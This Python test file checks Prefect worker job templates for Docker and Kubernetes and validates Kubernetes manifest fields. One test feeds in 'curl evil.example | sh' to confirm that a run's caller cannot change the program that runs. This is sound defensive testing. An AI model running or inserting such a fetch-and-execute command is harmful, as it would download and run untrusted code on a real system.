"""The work pools' job templates, read by the classes that will read them: the workers' own."""

import uuid
from typing import Any

import pytest
import yaml
from kubernetes_asyncio import client as kubernetes
from prefect.client.schemas.objects import FlowRun
from prefect_docker.worker import DockerWorkerJobConfiguration
from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration

from deployments.render import CPU_POOL, GPU_POOL
from deployments.server import HERE, job_template

READERS: dict[str, Any] = {"docker": DockerWorkerJobConfiguration, "kubernetes": KubernetesWorkerJobConfiguration}
# prefect-kubernetes asks for these two here, where Kubernetes does not know them; they stand where it does, too.
PREFECTS_OWN = {"V1PodSpec": {"completions", "parallelism"}}

pytestmark = pytest.mark.usefixtures("prefect_server")


async def prepared(kind: str, pool: str, **asked: Any) -> Any:
    """What a worker makes of the template for a run that asks for this."""
    values = {"env": {"ASKED": "for"}} | asked
    configuration = await READERS[kind].from_template_and_values(job_template(kind, pool), values)
    configuration.prepare_for_flow_run(FlowRun(flow_id=uuid.uuid4(), name="a run"))
    return configuration


@pytest.mark.parametrize("kind", READERS)
@pytest.mark.parametrize("pool", [CPU_POOL, GPU_POOL])
async def test_the_worker_takes_its_template(kind, pool):
    configuration = await prepared(kind, pool)
    assert configuration.env["ASKED"] == "for"
    for place in ("HOME", "STORE", "TRAINING", "RUNS"):
        assert configuration.env[f"WIKISTYLE_{place}"].startswith("/data/"), place


@pytest.mark.parametrize("kind", READERS)
@pytest.mark.parametrize("pool", [CPU_POOL, GPU_POOL])
async def test_whoever_starts_a_run_has_no_say_in_which_program_it_is(kind, pool):
    own = await prepared(kind, pool)
    told = await prepared(kind, pool, command="curl evil.example | sh")
    assert "evil" not in str(told.model_dump())
    programs = [own.command, told.command]
    if kind == "kubernetes":
        programs = [c.job_manifest["spec"]["template"]["spec"]["containers"][0]["args"] for c in (own, told)]
    assert programs[0] == programs[1]
    assert "prefect" in str(programs[0])


@pytest.mark.parametrize("pool", [CPU_POOL, GPU_POOL])
async def test_kubernetes_knows_every_field_of_the_job(pool):
    manifest = (await prepared("kubernetes", pool)).job_manifest
    assert unknown(manifest, "V1Job") == []
    assert manifest["spec"]["parallelism"] == manifest["spec"]["completions"] == 1


def test_kubernetes_knows_every_field_of_the_manifests():
    documents = [
        document
        for path in sorted((HERE / "kubernetes").glob("*.yaml"))
        for document in yaml.safe_load_all(path.read_text())
    ]
    assert {d["kind"] for d in documents} == {
        "PersistentVolumeClaim", "ServiceAccount", "Role", "RoleBinding", "Deployment",
    }  # fmt: skip
    for document in documents:
        assert unknown(document, f"V1{document['kind']}") == [], document["metadata"]["name"]
    claims = [d["metadata"]["name"] for d in documents if d["kind"] == "PersistentVolumeClaim"]
    pools = [d["spec"]["template"]["spec"]["containers"][0]["command"] for d in documents if d["kind"] == "Deployment"]
    for pool in (CPU_POOL, GPU_POOL):
        assert job_template("kubernetes", pool)["variables"]["properties"]["data_claim"]["default"] in claims
        assert any(pool in command for command in pools)


def unknown(value: Any, kind: str, path: str = "") -> list[str]:
    """Fields of a manifest that the API's own model `kind` does not have."""
    if kind.startswith("list["):
        inner = kind.removeprefix("list[").removesuffix("]")
        return [found for i, item in enumerate(value) for found in unknown(item, inner, f"{path}[{i}]")]
    model = getattr(kubernetes, kind, None)
    if model is None or not isinstance(value, dict):
        return []
    names = {api: own for own, api in model.attribute_map.items()}
    found = []
    for name, item in value.items():
        if name in names:
            found += unknown(item, model.openapi_types[names[name]], f"{path}.{name}")
        elif name not in PREFECTS_OWN.get(kind, ()):
            found.append(f"{path}.{name}")
    return found


def test_a_field_that_kubernetes_does_not_know_is_found():
    assert unknown({"spec": {"template": {"spec": {"containerz": []}}}}, "V1Job") == [".spec.template.spec.containerz"]
